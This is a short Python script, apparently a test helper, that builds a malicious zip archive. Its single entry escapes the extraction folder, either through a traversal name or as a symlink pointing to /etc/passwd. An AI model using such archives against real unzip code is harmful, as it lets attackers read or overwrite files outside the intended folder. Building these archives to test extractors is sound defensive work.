"""Writes a zip with one entry that leads out of it, by its name or as a link."""
import sys
import zipfile

entry = zipfile.ZipInfo(sys.argv[2])
if sys.argv[2] == "link":
    entry.external_attr = 0o120777 << 16
with zipfile.ZipFile(sys.argv[1], "w") as evil:
    evil.writestr(entry, "/etc/passwd")
